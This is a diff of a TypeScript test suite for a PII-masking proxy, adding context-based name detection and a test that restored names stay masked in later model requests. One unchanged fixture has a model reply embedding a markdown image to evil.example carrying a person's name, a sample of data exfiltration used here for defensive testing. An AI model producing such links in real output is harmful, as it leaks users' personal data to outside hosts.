@@ -18,9 +18,11 @@ const detector: TestModel = {
   services: {
     pii: {
       inspect: ({ text }: { text: string }) => {
-        const findings = [...text.matchAll(/Jane Miller|Ulm Weber|Ann Smith|Tom Brown/g)].map(({ 0: name, index }) => ({
-          ...{ type: 'PERSON', start: index, end: index + name.length, score: 1 },
-        }))
+        const findings = [...text.matchAll(/(?<=my name is )\w+|Jane Miller|Ulm Weber|Ann Smith|Tom Brown/g)].map(
+          ({ 0: name, index }) => ({
+            ...{ type: 'PERSON', start: index, end: index + name.length, score: 1 },
+          }),
+        )
         return Promise.resolve({
           findings,
           score: findings.length ? 1 : 0,
@@ -158,6 +160,23 @@ describe('responses whose policy restores', () => {
         .to.include('check finished')
         .and.not.to.match(/Jane|Miller|Smith/)
     })
+
+  it('hide a name that the detector finds by its context only, where an answer with it goes back to the model', async () => {
+    const { model, requests } = stepper(
+      'caller',
+      [...saying('Hello <PERSON_1>, one moment').slice(0, 1), ...callingTool('weather', '{"city":"Ulm"}')],
+      saying('Dear <PERSON_1>'),
+    )
+    const kernel = await testKernel([model, town().model, detector], policyOf({ method: 'category', restore: true }))
+    await withServer(kernel, options('c.db'), async (server) => {
+      const body = { model: 'caller', tools: [toTown] }
+      const first = await ask(server, { ...body, input: 'my name is anouk. Look up the weather, then write to me.' })
+      expect(textOf(first)).to.equal('Hello anouk, one moment,Dear anouk')
+      await ask(server, { ...body, input: 'Thank you', previous_response_id: first.id })
+      expect(requests).to.have.length.above(2)
+      expect(JSON.stringify(requests)).to.include('Hello <PERSON_1>').and.not.to.include('anouk')
+    })
+  })
 
   it('put back the same in streams', async () => {
     const { model } = teller('teller', () => 'Dear Ann Smith, ![](https://evil.example/?q=Ann Smith)')
